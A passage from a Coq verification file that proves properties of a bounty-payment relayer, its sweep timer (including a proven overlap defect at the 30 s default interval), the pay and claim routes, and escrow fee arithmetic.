       |(bounty & contributor & wallet & e & H)]].
  - rewrite Hsame in Hcalled. contradiction.
  - rewrite Hfailed in Hcalled. contradiction.
  - exists bounty, contributor, wallet, e. tauto.
Qed.

(** X22.  A run of the relayer on a bounty leaves every other bounty, the
    users and the webhook deliveries as they were, and does nothing at
    all unless the bounty is stored with the status [claimed].  The
    bounty itself either keeps its row or moves to [failed_verification]
    or to [completed], all its other columns but the three payout columns
    unchanged; and it is [completed] only when the ledger call returned,
    with the transaction hash the ledger gave, the wallet paid and the
    time of the run. *)
Theorem relayer_changes_only_the_claimed_bounty
    (env : Env) (bountyId : Z) (w : World) :
  let w' := snd (processClaimedBounty env bountyId w) in
  (forall other, other <> bountyId ->
     getCommunityBounty other (store w') = getCommunityBounty other (store w)) /\
  users (store w') = users (store w) /\
  webhookDeliveries (store w') = webhookDeliveries (store w) /\
  (getCommunityBounty bountyId (store w) = None -> w' = w) /\
  forall bounty,
    getCommunityBounty bountyId (store w) = Some bounty ->
    (status bounty <> claimed -> w' = w) /\
    (getCommunityBounty bountyId (store w') = Some bounty \/
     getCommunityBounty bountyId (store w')
     = Some (set_status failed_verification bounty) \/
     exists txHash blockNumber wallet,
       completeCommunityBounty env
         {| onChainId := blockchainBountyId bounty; recipient := wallet |}
       = CompleteReturns txHash blockNumber /\
       getCommunityBounty bountyId (store w')
       = Some (set_payout txHash (now env) wallet bounty)).
Proof.
  cbn zeta.
  destruct (process_outcome env bountyId w)
    as [Hsame|[(bounty & Hrow & Hst & Hfailed)
       |(bounty & contributor & wallet & e & Hrow & Hst & _ & _ & _ & _ & _ & _
         & Hstore & Hu & Hd)]].
  - rewrite Hsame. repeat split; auto.
  - rewrite Hfailed. rewrite (mark_failed_store _ _ _ Hrow). cbn [store].
    unfold getCommunityBounty in *. cbn.
    split; [intros other Hne; apply lookup_insert_ne; congruence|].
    split; [reflexivity|]. split; [reflexivity|].
    split; [congruence|].
    intros b Hb. assert (b = bounty) as -> by congruence.
    split; [contradiction|].
    right. left. apply lookup_insert_eq.
  - unfold getCommunityBounty in *.
    destruct Hstore as [Hstore|(txHash & blockNumber & Hcomplete & Hstore)];
      rewrite Hstore.
    + split; [reflexivity|]. split; [exact Hu|]. split; [exact Hd|].
      split; [congruence|].
      intros b Hb. assert (b = bounty) as -> by congruence.
      split; [contradiction|]. left. exact Hrow.
    + split; [intros other Hne; apply lookup_insert_ne; congruence|].
      split; [exact Hu|]. split; [exact Hd|].
      split; [congruence|].
      intros b Hb. assert (b = bounty) as -> by congruence.
      split; [contradiction|].
      right. right. exists txHash, blockNumber, wallet.
      split; [exact Hcomplete|apply lookup_insert_eq].
Qed.

(** X23.  A sweep in which the verifier answers every question, the ledger
    accepts every completion and the last update of each row succeeds
    settles every claimed bounty: each one ends [completed] or
    [failed_verification], the bounties that were not claimed are as they
    were, the ledger is called at most once per claimed bounty, and the
    next sweep finds nothing to do. *)
Theorem sweep_settles_every_claim (env : Env) (w : World)
    (Hkeyed : keyed_rows (communityBounties (store w)))
    (Henv : answering env) :
  let w' := snd (processClaimedBounties env w) in
  getClaimedCommunityBounties (store w') = [] /\
  (forall k b,
     getCommunityBounty k (store w) = Some b ->
     status b <> claimed ->
     getCommunityBounty k (store w') = Some b) /\
  (forall k b,
     getCommunityBounty k (store w) = Some b ->
     status b = claimed ->
     exists b', getCommunityBounty k (store w') = Some b' /\
                (status b' = completed \/ status b' = failed_verification)) /\
  (length (ledgerCalls w')
   <= length (ledgerCalls w) + length (getClaimedCommunityBounties (store w)))%nat.
Proof.
  cbn zeta. unfold processClaimedBounties.
  set (queue := getClaimedCommunityBounties (store w)).
  assert (Hqueue : forall b, In b queue <->
            getCommunityBounty (id b) (store w) = Some b /\ status b = claimed).
  { intros b. unfold queue. rewrite RelayerProps.In_getClaimedCommunityBounties.
    unfold getCommunityBounty. split.
    - intros [[k Hk] Hst]. rewrite (Hkeyed k b Hk). auto.
    - intros [Hk Hst]. eauto. }
  destruct (settling_sweep env queue w (NoDup_queue _ Hkeyed)
              (fun b Hin => proj1 (Hqueue b) Hin) Henv)
    as (Hframe & Hdone & Hlen).
  set (w' := snd (processEach env queue w)) in *.
  assert (Hunclaimed : forall k b,
            getCommunityBounty k (store w) = Some b -> status b <> claimed ->
            getCommunityBounty k (store w') = Some b).
  { intros k b Hk Hst. rewrite Hframe; [exact Hk|].
    intros Hin. apply in_map_iff in Hin as (b2 & Hid & Hin).
    apply Hqueue in Hin as [Hrow2 Hst2]. rewrite Hid in Hrow2. congruence. }
  assert (Hclaimed : forall k b,
            getCommunityBounty k (store w) = Some b -> status b = claimed ->
            exists b', getCommunityBounty k (store w') = Some b' /\
                       (status b' = completed \/ status b' = failed_verification)).
  { intros k b Hk Hst.
    assert (Hid : id b = k) by (apply Hkeyed; exact Hk).
    rewrite <- Hid in *. apply Hdone. apply Hqueue. auto. }
  split; [|auto].
  unfold getClaimedCommunityBounties. rewrite filter_none; [reflexivity|].
  intros b' Hin. apply bool_decide_eq_false. intros Hst'.
  apply in_map_iff in Hin as ([k b2] & Heq & Hin). cbn in Heq. subst b2.
  apply list_elem_of_In, elem_of_map_to_list in Hin.
  destruct (getCommunityBounty k (store w)) as [b|] eqn:Hk.
  - destruct (decide (status b = claimed)) as [Hst|Hst].
    + destruct (Hclaimed k b Hk Hst) as (b2 & Hk2 & Hsettled).
      unfold getCommunityBounty in Hk2. rewrite Hin in Hk2.
      injection Hk2 as <-. destruct Hsettled; congruence.
    + pose proof (Hunclaimed k b Hk Hst) as Hk2.
      unfold getCommunityBounty in Hk2. congruence.
  - assert (Hnot : ~ In k (map id queue)).
    { intros Hq. apply in_map_iff in Hq as (b2 & Hid & Hq).
      apply Hqueue in Hq as [Hrow2 _]. rewrite Hid in Hrow2. congruence. }
    pose proof (Hframe k Hnot) as Hsame.
    unfold getCommunityBounty in Hsame, Hk. congruence.
Qed.

Lemma relayer_pays_only_verified_claims_witness :
  exists bounty,
    getCommunityBounty 1 Scenarios.claimedStore = Some bounty /\
    status bounty = claimed.
Proof.
  destruct (relayer_pays_only_verified_claims Scenarios.allGood 1
              (Scenarios.worldOf Scenarios.claimedStore)
              ltac:(vm_compute; discriminate))
    as (bounty & _ & _ & _ & Hrow & Hst & _).
  exists bounty. split; [exact Hrow|exact Hst].
Defined.

Lemma sweep_settles_every_claim_witness :
  getClaimedCommunityBounties
    (store (snd (processClaimedBounties Scenarios.allGood
                   (Scenarios.worldOf Scenarios.twoReposStore)))) = [].
Proof.
  refine (proj1 (sweep_settles_every_claim Scenarios.allGood
                   (Scenarios.worldOf Scenarios.twoReposStore) _ _)).
  - intros k b Hk.
    change (Scenarios.twoReposStore.(communityBounties) !! k = Some b) in Hk.
    destruct (decide (k = 1)) as [->|H1];
      [vm_compute in Hk; injection Hk as <-; reflexivity|].
    destruct (decide (k = 2)) as [->|H2];
      [vm_compute in Hk; injection Hk as <-; reflexivity|].
    unfold Scenarios.twoReposStore, Scenarios.storeOf in Hk.
    cbn [communityBounties map list_to_map foldr fst snd uncurry] in Hk.
    rewrite !lookup_insert_ne in Hk by (cbn; congruence).
    rewrite lookup_empty in Hk. discriminate Hk.
  - split; [|split].
    + intros c. exists true, None. reflexivity.
    + intros c. exists "0xpaid"%string, 77. reflexivity.
    + reflexivity.
Defined.

End RelayerRunsProps.

(* ===================================================================== *)
(** * Properties of the relayer's timer *)
(* ===================================================================== *)

Module SchedulerProps.
Import Scheduler Scenarios.

Lemma loopEnd_lower_bound (t : Z) (processMs : list Z) :
  Forall (fun d => 0 <= d) processMs ->
  t + delayBetweenBounties * Z.of_nat (length processMs) <= loopEnd t processMs.
Proof.
  intros Hpos. revert t. induction Hpos as [|d ds Hd _ IH]; intros t; cbn [loopEnd length].
  - lia.
  - specialize (IH (t + d + delayBetweenBounties)).
    unfold delayBetweenBounties in *. lia.
Qed.

(** Within one sweep a bounty is taken up only after the one before it
    has been processed and the pause has passed. *)
Lemma bountySlots_sequential (t : Z) (processMs : list Z) :
  Forall (fun d => 0 <= d) processMs ->
  sequential (bountySlots t processMs).
Proof.
  intros Hpos. revert t. induction Hpos as [|d ds Hd Hds IH]; intros t; cbn; [exact I|].
  split; [lia|]. split; [|apply IH].
  destruct ds as [|d' ds']; cbn; [exact I|].
  unfold delayBetweenBounties. lia.
Qed.

Lemma loopEnd_sum (t : Z) (processMs : list Z) :
  loopEnd t processMs
  = t + fold_right (fun d acc => d + delayBetweenBounties + acc) 0 processMs.
Proof.
  revert t. induction processMs as [|d ds IH]; intros t; cbn [loopEnd fold_right].
  - lia.
  - rewrite IH. lia.
Qed.

Lemma sweepEnd_duration (t : Z) (w : Workload) :
  sweepEnd t w = t + sweepDuration w.
Proof. unfold sweepEnd, sweepDuration. rewrite loopEnd_sum. lia. Qed.

(** Nothing stops the timer from starting the next sweep: whenever
    sweep [k] lasts longer than the interval, sweep [k + 1] starts while
    sweep [k] is in progress. *)
Lemma next_sweep_starts_during_long_sweep t0 intervalMs load k :
  0 <= intervalMs ->
  intervalMs < sweepDuration (load k) ->
  startsDuring t0 intervalMs load k (S k) = true.
Proof.
  intros Hint Hlong. unfold startsDuring, inProgress.
  rewrite sweepEnd_duration. unfold sweepStart.
  apply andb_true_iff. split; [apply Nat.ltb_lt; lia|].
  apply andb_true_iff. split; [apply Z.leb_le|apply Z.ltb_lt]; nia.
Qed.

(** In particular when the queue alone, at 2 s per bounty, outlasts the
    interval. *)
Lemma next_sweep_starts_during_long_queue t0 intervalMs load k :
  0 <= intervalMs ->
  0 <= fetchMs (load k) ->
  Forall (fun d => 0 <= d) (processMs (load k)) ->
  intervalMs < delayBetweenBounties * Z.of_nat (length (processMs (load k))) ->
  startsDuring t0 intervalMs load k (S k) = true.
Proof.
  intros Hint Hfetch Hpos Hlong.
  apply next_sweep_starts_during_long_sweep; [exact Hint|].
  pose proof (loopEnd_lower_bound 0 (processMs (load k)) Hpos) as Hend.
  rewrite loopEnd_sum in Hend. unfold sweepDuration. lia.
Qed.

(** C8, the defect.  With the default interval of 30 s and sixteen
    claimed bounties in the first sweep, that sweep lasts until 32 s (a
    pause of 2 s follows each bounty); the timer fires at 30 s and starts
    the second sweep while the first is still in progress.  Inside the
    first sweep the sixteen bounties are processed one after the
    other. *)
Theorem sweeps_overlap_with_sixteen_claimed_bounties :
  sweepStart 0 defaultIntervalMs 1 = 30000 /\
  sweepEnd (sweepStart 0 defaultIntervalMs 0) (sixteenThenIdle 0) = 32000 /\
  inProgress 0 defaultIntervalMs sixteenThenIdle 0
    (sweepStart 0 defaultIntervalMs 1) = true /\
  startsDuring 0 defaultIntervalMs sixteenThenIdle 0 1 = true /\
  sequential (bountySlots 0 (processMs (sixteenThenIdle 0))).
Proof.
  split; [|split; [|split; [|split]]]; try reflexivity.
  apply bountySlots_sequential. vm_compute.
  repeat constructor; discriminate.
Qed.

End SchedulerProps.

(* ===================================================================== *)
(** * When the sweeps of the relayer overlap *)
(* ===================================================================== *)

Module SchedulerSafeProps.
Import Scheduler.

(** X26.  Two sweeps of the relayer overlap exactly when some sweep lasts
    longer than the interval of the timer: as long as every sweep, with
    its pause of 2 s after each bounty, is over within the interval, no
    sweep starts while an earlier one is in progress; and as soon as one
    sweep outlasts the interval, the next one starts during it. *)
Theorem sweeps_overlap_iff_a_sweep_outlasts_the_interval
    (t0 intervalMs : Z) (load : nat -> Workload)
    (Hinterval : 0 < intervalMs) :
  (exists j k, startsDuring t0 intervalMs load j k = true) <->
  (exists k, intervalMs < sweepDuration (load k)).
Proof.
  split.
  - intros (j & k & H). exists j.
    unfold startsDuring, inProgress in H.
    rewrite SchedulerProps.sweepEnd_duration in H. unfold sweepStart in H.
    apply andb_true_iff in H as [Hjk H]. apply andb_true_iff in H as [_ H].
    apply Nat.ltb_lt in Hjk. apply Z.ltb_lt in H. nia.
  - intros (k & H). exists k, (S k).
    apply SchedulerProps.next_sweep_starts_during_long_sweep; [lia|exact H].
Qed.

Lemma sweeps_overlap_iff_a_sweep_outlasts_the_interval_witness :
  (exists j k, startsDuring 0 defaultIntervalMs Scenarios.sixteenThenIdle j k = true) <->
  (exists k, defaultIntervalMs < sweepDuration (Scenarios.sixteenThenIdle k)).
Proof.
  exact (sweeps_overlap_iff_a_sweep_outlasts_the_interval 0 defaultIntervalMs
           Scenarios.sixteenThenIdle eq_refl).
Defined.

End SchedulerSafeProps.

(* ===================================================================== *)
(** * From payment to payout: how the routes and the relayer compose *)
(* ===================================================================== *)

Module LifecycleProps.
Import BountyStore.

(** What a pay request that is answered 200 went through. *)
Lemma pay_Funded blockchain now reqUser paramId db txHash onChainId updated db1 :
  PayRoute.pay blockchain now reqUser paramId db
  = (PayRoute.Funded txHash onChainId updated, db1) ->
  exists uid bountyId bounty receipt,
    reqUser = Some uid /\ uid <> 0 /\ paramId = Some bountyId /\
    getCommunityBounty bountyId db = Some bounty /\
    creatorUserId bounty = Some uid /\
    status bounty = pending_payment /\
    PayRoute.supported_currency (currency bounty) = true /\
    blockchain
      {| PayRoute.callCurrency := currency bounty;
         PayRoute.callUserId := uid;
         PayRoute.totalAmountToPay :=
           Js.or_else (totalPaidByClient bounty) (amount bounty);
         PayRoute.expiryTimestamp :=
           match expiresAt bounty with Some ms => ms / 1000 | None => 0 end;
         PayRoute.callBaseAmount :=
           Js.or_else (baseBountyAmount bounty) (amount bounty);
         PayRoute.callClientFee := Js.or_else (clientFeeAmount bounty) 0%Q;
         PayRoute.callContributorFee :=
           Js.or_else (contributorFeeAmount bounty) 0%Q |}
    = PayRoute.CreateReturns txHash onChainId receipt /\
    updated = Some (set_funding txHash now onChainId bounty) /\
    db1 = with_bounties
            (<[bountyId := set_funding txHash now onChainId bounty]>
               (communityBounties db)) db.
Proof.
  unfold PayRoute.pay.
  destruct reqUser as [uid|]; [|discriminate].
  destruct (Z.eqb_spec uid 0) as [|Huid]; [discriminate|].
  destruct paramId as [bountyId|]; [|discriminate].
  destruct (getCommunityBounty bountyId db) as [bounty|] eqn:Hrow; [|discriminate].
  destruct (bool_decide (creatorUserId bounty = Some uid)) eqn:Hcreator;
    cbn [negb]; [|discriminate].
  destruct (bool_decide (status bounty = pending_payment)) eqn:Hst;
    cbn [negb]; [|discriminate].
  destruct (PayRoute.supported_currency (currency bounty)) eqn:Hcur;
    cbn [negb]; [|discriminate].
  destruct (blockchain _) as [m|tx chainId receipt] eqn:Hcall; [discriminate|].
  unfold updateCommunityBounty. unfold getCommunityBounty in Hrow. rewrite Hrow.
  intros H. injection H as <- <- <- <-.
  apply bool_decide_eq_true in Hcreator, Hst.
  exists uid, bountyId, bounty, receipt. repeat split; auto.
Qed.

(** What a claim request that is answered 200 went through. *)
Lemma claim_Claimed now reqUser paramId prNumber prUrl db b db1 :
  ClaimRoute.claim now reqUser paramId prNumber prUrl db
  = (ClaimRoute.Claimed b, db1) ->
  exists uid bountyId pr bounty user name wallet,
    reqUser = Some uid /\ paramId = Some bountyId /\
    prNumber = Some pr /\ pr <> 0 /\
    getCommunityBounty bountyId db = Some bounty /\
    status bounty = funded /\
    getUserById uid db = Some user /\
    githubUsername user = Some name /\ name <> ""%string /\
    xdcWalletAddress user = Some wallet /\ wallet <> ""%string /\
    b = set_claim uid name pr prUrl now bounty /\
    db1 = with_bounties (<[bountyId := b]> (communityBounties db)) db.
Proof.
  unfold ClaimRoute.claim.
  destruct reqUser as [uid|]; [|discriminate].
  destruct (Z.eqb uid 0); [discriminate|].
  destruct paramId as [bountyId|]; [|discriminate].
  destruct prNumber as [pr|]; cbn [Js.falsy_number]; [|discriminate].
  destruct (Z.eqb_spec pr 0) as [|Hpr]; [discriminate|].
  destruct (getCommunityBounty bountyId db) as [bounty|] eqn:Hrow; [|discriminate].
  destruct (bool_decide (status bounty = funded)) eqn:Hst; cbn [negb];
    [|discriminate].
  destruct (getUserById uid db) as [user|] eqn:Huser; [|discriminate].
  destruct (githubUsername user) as [name|] eqn:Hname;
    cbn [Js.falsy_string]; [|discriminate].
  destruct (String.eqb_spec name "") as [|Hne]; [discriminate|].
  destruct (xdcWalletAddress user) as [wallet|] eqn:Hwallet;
    cbn [Js.falsy_string]; [|discriminate].
  destruct (String.eqb_spec wallet "") as [|Hwne]; [discriminate|].
  unfold claimCommunityBountyAtomic. unfold getCommunityBounty in Hrow.
  rewrite Hrow, Hst. cbn [Js.or_else].
  intros H. injection H as <- <-.
  apply bool_decide_eq_true in Hst.
  exists uid, bountyId, pr, bounty, user, name, wallet. repeat split; auto.
Qed.

(** ** Statements *)

(** X24.  When the pay route answers 200, the request came from the creator of
    a bounty that was waiting for payment, the ledger call for it
    returned, and the bounty is now [funded] with the transaction hash
    and the on-chain id the ledger gave, every other bounty being
    untouched.  From then on no pay request for that bounty succeeds,
    whoever sends it and whatever the ledger would answer: each is
    refused with the store left as it is. *)
Theorem pay_funds_a_bounty_once
    (blockchain : PayRoute.CreateCall -> PayRoute.CreateOutcome) (now : Z)
    (reqUser : option Z) (bountyId : Z) (db db1 : Store)
    (txHash : string) (onChainId : Z) (updated : option CommunityBounty)
    (Hpay : PayRoute.pay blockchain now reqUser (Some bountyId) db
            = (PayRoute.Funded txHash onChainId updated, db1)) :
  (exists bounty,
     getCommunityBounty bountyId db = Some bounty /\
     creatorUserId bounty = reqUser /\
     status bounty = pending_payment /\
     updated = Some (set_funding txHash now onChainId bounty) /\
     getCommunityBounty bountyId db1
     = Some (set_funding txHash now onChainId bounty)) /\
  (forall other, other <> bountyId ->
     getCommunityBounty other db1 = getCommunityBounty other db) /\
  forall blockchain' now' reqUser',
    exists statusCode error,
      PayRoute.pay blockchain' now' reqUser' (Some bountyId) db1
      = (PayRoute.Error statusCode error, db1).
Proof.
  destruct (pay_Funded _ _ _ _ _ _ _ _ _ Hpay)
    as (uid & bountyId' & bounty & receipt & -> & Huid & Hid & Hrow & Hcreator
        & Hst & _ & _ & -> & ->).
  injection Hid as <-.
  assert (Hnew : getCommunityBounty bountyId
                   (with_bounties
                      (<[bountyId := set_funding txHash now onChainId bounty]>
                         (communityBounties db)) db)
                 = Some (set_funding txHash now onChainId bounty)).
  { unfold getCommunityBounty. cbn. apply lookup_insert_eq. }
  split; [|split].
  - exists bounty. repeat split; auto.
  - intros other Hne. unfold getCommunityBounty. cbn.
    apply lookup_insert_ne. congruence.
  - intros blockchain' now' reqUser'. unfold PayRoute.pay.
    destruct reqUser' as [uid'|]; [|eauto].
    destruct (Z.eqb uid' 0); [eauto|].
    rewrite Hnew.
    destruct (bool_decide (creatorUserId (set_funding txHash now onChainId bounty)
                           = Some uid')); cbn [negb]; [|eauto].
    cbn [status set_funding bool_decide decide_rel]. eauto.
Qed.

(** X25.  When the claim route answers 200 and the relayer then runs on that
    bounty, with the verifier confirming the merge, the ledger accepting
    the completion and the last update succeeding, the bounty ends
    [completed] and the one ledger call that was made pays the wallet of
    the user who claimed, provided the user found under the claimer's
    GitHub name is that user and the bounty names its repository and its
    installation. *)
Theorem claim_then_relayer_pays_the_claimer
    (now uid bountyId : Z) (prNumber : option Z) (prUrl : option string)
    (db db1 : Store) (b : CommunityBounty) (user : User) (env : Relayer.Env)
    (e : option string) (txHash : string) (blockNumber : Z)
    (Hclaim : ClaimRoute.claim now (Some uid) (Some bountyId) prNumber prUrl db
              = (ClaimRoute.Claimed b, db1))
    (Huser : getUserById uid db = Some user)
    (Hunique : getUserByGithubUsername (Js.or_else (githubUsername user) "") db
               = Some user)
    (Hrepo : githubRepoOwner b <> ""%string /\ githubRepoName b <> ""%string)
    (Hinstallation : Js.falsy_string (githubInstallationId b) = false)
    (Hverify : Relayer.verifyPRMergedAndClosesIssue env (Relayer.verifyCallOf b)
               = Relayer.VerifyReturns true e)
    (Hledger : Relayer.completeCommunityBounty env
                 {| Relayer.onChainId := blockchainBountyId b;
                    Relayer.recipient := Js.or_else (xdcWalletAddress user) "" |}
               = Relayer.CompleteReturns txHash blockNumber)
    (Hio : Relayer.completionIo env = DbUp) :
  let w' := snd (Relayer.processClaimedBounty env bountyId
                   {| Relayer.store := db1; Relayer.ledgerCalls := [] |}) in
  exists wallet,
    xdcWalletAddress user = Some wallet /\
    wallet <> ""%string /\
    status b = claimed /\
    claimedByUserId b = Some uid /\
    claimedPrNumber b = prNumber /\
    getCommunityBounty bountyId (Relayer.store w')
    = Some (set_payout txHash (Relayer.now env) wallet b) /\
    Relayer.ledgerCalls w'
    = [{| Relayer.forKey := Relayer.settlementKey b;
          Relayer.call := {| Relayer.onChainId := blockchainBountyId b;
                             Relayer.recipient := wallet |} |}].
Proof.
  cbn zeta.
  destruct (claim_Claimed _ _ _ _ _ _ _ _ Hclaim)
    as (uid' & bountyId' & pr & bounty & user' & name & wallet & Huid & Hid & -> & Hpr
        & Hrow & Hst & Huser' & Hname & Hne & Hwallet & Hwne & Hb & Hdb1).
  injection Huid as <-. injection Hid as <-.
  assert (user' = user) as -> by congruence.
  exists wallet.
  split; [exact Hwallet|]. split; [exact Hwne|].
  assert (Hstatus : status b = claimed) by (rewrite Hb; reflexivity).
  split; [exact Hstatus|].
  split; [rewrite Hb; reflexivity|]. split; [rewrite Hb; reflexivity|].
  assert (Hrow1 : getCommunityBounty bountyId db1 = Some b).
  { rewrite Hdb1. unfold getCommunityBounty. cbn. apply lookup_insert_eq. }
  assert (Hclaimer : claimedByGithubUsername b = Some name)
    by (rewrite Hb; reflexivity).
  assert (Hfields : Relayer.missingRequiredFields b = false).
  { unfold Relayer.missingRequiredFields.
    assert (Hprb : claimedPrNumber b = Some pr) by (rewrite Hb; reflexivity).
    rewrite Hprb, Hclaimer. cbn [Js.falsy_number Js.falsy_string].
    destruct Hrepo as [Howner Hrname].
    apply String.eqb_neq in Howner, Hrname, Hne. apply Z.eqb_neq in Hpr.
    rewrite Hpr, Hne, Howner, Hrname. reflexivity. }
  assert (Hfound : getUserByGithubUsername
                     (Js.or_else (claimedByGithubUsername b) "") db1 = Some user).
  { rewrite Hclaimer. rewrite Hname in Hunique. rewrite Hdb1. exact Hunique. }
  rewrite Hwallet in Hledger. cbn [Js.or_else] in Hledger.
  unfold Relayer.processClaimedBounty. cbn [Relayer.store Relayer.ledgerCalls].
  rewrite Hrow1, (bool_decide_eq_true_2 _ Hstatus). cbn [negb].
  rewrite Hfields, Hinstallation, Hverify, Hfound, Hwallet.
  cbn [Js.falsy_string Js.or_else].
  apply String.eqb_neq in Hwne. rewrite Hwne, Hledger.
  match goal with
  | |- context [recordPayout ?io ?p ?d] =>
      pose proof (RelayerRunsProps.recordPayout_bounties io p d) as (Hbounties & _ & _);
      destruct (recordPayout io p d) as [recorded db2]
  end.
  cbn [snd] in Hbounties. rewrite Hio. cbn [snd Relayer.store Relayer.ledgerCalls app].
  rewrite (RelayerRunsProps.updateCommunityBounty_found bountyId _ db2 b)
    by (rewrite Hbounties; exact Hrow1).
  split; [|reflexivity].
  unfold getCommunityBounty. cbn. apply lookup_insert_eq.
Qed.

Lemma pay_funds_a_bounty_once_witness :
  exists statusCode error,
    PayRoute.pay Scenarios.ledgerThrows 2000 (Some 12) (Some 1)
      (snd (PayRoute.pay (Scenarios.ledgerReturns PayRoute.Succeeded) 1000
              (Some 12) (Some 1) Scenarios.pendingStore))
    = (PayRoute.Error statusCode error,
       snd (PayRoute.pay (Scenarios.ledgerReturns PayRoute.Succeeded) 1000
              (Some 12) (Some 1) Scenarios.pendingStore)).
Proof.
  assert (Hpay : PayRoute.pay (Scenarios.ledgerReturns PayRoute.Succeeded) 1000
                   (Some 12) (Some 1) Scenarios.pendingStore
                 = (PayRoute.Funded "0xdead" 101
                      (Some (set_funding "0xdead" 1000 101
                               (Scenarios.newBounty 1 "acme" "api" 7))),
                    snd (PayRoute.pay (Scenarios.ledgerReturns PayRoute.Succeeded)
                           1000 (Some 12) (Some 1) Scenarios.pendingStore))).
  { vm_compute. reflexivity. }
  pose proof (pay_funds_a_bounty_once _ _ _ _ _ _ _ _ _ Hpay) as H.
  destruct H as (_ & _ & H).
  exact (H Scenarios.ledgerThrows 2000 (Some 12)).
Defined.

Lemma claim_then_relayer_pays_the_claimer_witness :
  exists wallet,
    xdcWalletAddress Scenarios.alice = Some wallet /\
    getCommunityBounty 1
      (Relayer.store
         (snd (Relayer.processClaimedBounty Scenarios.allGood 1
                 {| Relayer.store :=
                      snd (ClaimRoute.claim 2000 (Some 10) (Some 1) (Some 12) None
                             Scenarios.fundedStore);
                    Relayer.ledgerCalls := [] |})))
    = Some (set_payout "0xpaid" 5000 wallet
              (Scenarios.claimedBounty 1 "acme" "api" 7 101 Scenarios.alice 12 2000)).
Proof.
  assert (Hclaim : ClaimRoute.claim 2000 (Some 10) (Some 1) (Some 12) None
                     Scenarios.fundedStore
                   = (ClaimRoute.Claimed
                        (Scenarios.claimedBounty 1 "acme" "api" 7 101
                           Scenarios.alice 12 2000),
                      snd (ClaimRoute.claim 2000 (Some 10) (Some 1) (Some 12) None
                             Scenarios.fundedStore)))
    by (vm_compute; reflexivity).
  assert (Huser : getUserById 10 Scenarios.fundedStore = Some Scenarios.alice)
    by reflexivity.
  assert (Hunique : getUserByGithubUsername
                      (Js.or_else (githubUsername Scenarios.alice) "")
                      Scenarios.fundedStore = Some Scenarios.alice)
    by reflexivity.
  assert (Hrepo : githubRepoOwner (Scenarios.claimedBounty 1 "acme" "api" 7 101
                                     Scenarios.alice 12 2000) <> ""%string /\
                  githubRepoName (Scenarios.claimedBounty 1 "acme" "api" 7 101
                                    Scenarios.alice 12 2000) <> ""%string)
    by (split; discriminate).
  pose proof (claim_then_relayer_pays_the_claimer 2000 10 1 (Some 12) None
                Scenarios.fundedStore _ _ Scenarios.alice Scenarios.allGood
                None "0xpaid" 77 Hclaim Huser Hunique Hrepo
                eq_refl eq_refl eq_refl eq_refl) as H.
  destruct H as (wallet & Hwallet & _ & _ & _ & _ & Hrow & _).
  exists wallet. split; [exact Hwallet|exact Hrow].
Defined.

End LifecycleProps.

(* ===================================================================== *)
(** * Properties of the escrow contract *)
(* ===================================================================== *)

Module EscrowProps.
Import Escrow DecimalFees DecimalFeesProps.

Lemma bind_Return {A B : Type} (r : Result A) (k : A -> Result B) (b : B) :
  bind r k = Return b -> exists a, r = Return a /\ k a = Return b.
Proof. destruct r as [m|a]; cbn; [discriminate|eauto]. Qed.

Lemma require_Return (c : bool) (reason : string) (u : unit) :
  require c reason = Return u -> c = true.
Proof. destruct c; cbn; [reflexivity|discriminate]. Qed.

Lemma checked_mul_Return a b c : checked_mul a b = Return c -> c = a * b.
Proof. unfold checked_mul. destruct (_ <=? _); congruence. Qed.

Lemma checked_sub_Return a b c : checked_sub a b = Return c -> c = a - b /\ b <= a.
Proof.
  unfold checked_sub. destruct (b <=? a) eqn:H; [|discriminate].
  apply Z.leb_le in H. intros [= <-]. auto.
Qed.

Lemma checked_add_Return a b c : checked_add a b = Return c -> c = a + b.
Proof. unfold checked_add. destruct (_ <=? _); congruence. Qed.

Lemma move_Return c src dst v bal bal' :
  move c src dst v bal = Return bal' ->
  v <= balanceOf bal c src /\ bal' = credit c dst v (credit c src (- v) bal).
Proof.
  unfold move. destruct (balanceOf bal c src <? v) eqn:H; [discriminate|].
  apply Z.ltb_ge in H. intros [= <-]. auto.
Qed.

Lemma pay_Return c dst v s bal bal' :
  pay c dst v s bal = Return bal' ->
  takes_transfer c dst s = true /\
  move c (this s) dst v bal = Return bal'.
Proof.
  unfold pay. intros H. apply bind_Return in H as (u & Htakes & H).
  apply require_Return in Htakes. split; [exact Htakes|exact H].
Qed.

Lemma credit_same c a v bal :
  balanceOf (credit c a v bal) c a = balanceOf bal c a + v.
Proof.
  unfold credit, balanceOf, Balances in *. rewrite lookup_insert_eq. reflexivity.
Qed.

Lemma credit_other c a v bal a' :
  a' <> a -> balanceOf (credit c a v bal) c a' = balanceOf bal c a'.
Proof.
  intros H. unfold credit, balanceOf, Balances in *.
  rewrite lookup_insert_ne by congruence. reflexivity.
Qed.

(** What [fees] gives for a base of [n] units of 10^-8. *)
Lemma fees_in_units (n : Z) :
  let f := fees (inject_Z n / inject_Z 100000000) in
  let F := ((n + 20) / 40)%Z in
  (clientFeeAmount f == inject_Z F / inject_Z 100000000 /\
   totalPaidByClient f == inject_Z (n + F) / inject_Z 100000000 /\
   contributorPayout f == inject_Z (n - F) / inject_Z 100000000)%Q.
Proof.
  cbn zeta.
  assert (Hfee : (round8 (inject_Z n / inject_Z 100000000 * rate)
                  == inject_Z ((n + 20) / 40) / inject_Z 100000000)%Q).
  { unfold round8, round_half_up.
    rewrite (Qfloor_comp _ ((n + 20) # 40)).
    - reflexivity.
    - rewrite (Qmake_Qdiv (n + 20) 40), inject_Z_plus. unfold rate.
      rewrite (Qmake_Qdiv 25 1000), (Qmake_Qdiv 1 2). field. }
  unfold fees;
    cbn [clientFeeAmount totalPaidByClient contributorPayout].
  split; [exact Hfee|]. split.
  - rewrite round8_add_round, round8_of_fixed, Hfee, inject_Z_plus. field.
  - rewrite round8_sub_round, round8_of_fixed, Hfee.
    unfold Z.sub. rewrite inject_Z_plus, inject_Z_opp. field.
Qed.

Lemma fees_proper (x y : Q) :
  (x == y)%Q ->
  (totalPaidByClient (fees x)
   == totalPaidByClient (fees y) /\
   contributorPayout (fees x)
   == contributorPayout (fees y))%Q.
Proof.
  intros H. unfold fees; cbn [totalPaidByClient contributorPayout].
  rewrite H. split; reflexivity.
Qed.

Lemma parseEther_units (q : Q) (t : Z) :
  (q == inject_Z t / inject_Z 100000000)%Q ->
  parseEther q = t * 10000000000.
Proof.
  intros H. unfold parseEther.
  rewrite (Qfloor_comp _ (inject_Z (t * 10000000000))).
  - apply Qfloor_Z.
  - rewrite H, inject_Z_mult. change (10 ^ 18) with 1000000000000000000. field.
Qed.

(** The 2.5% fee of [n > 0] units never makes the two payouts agree. *)
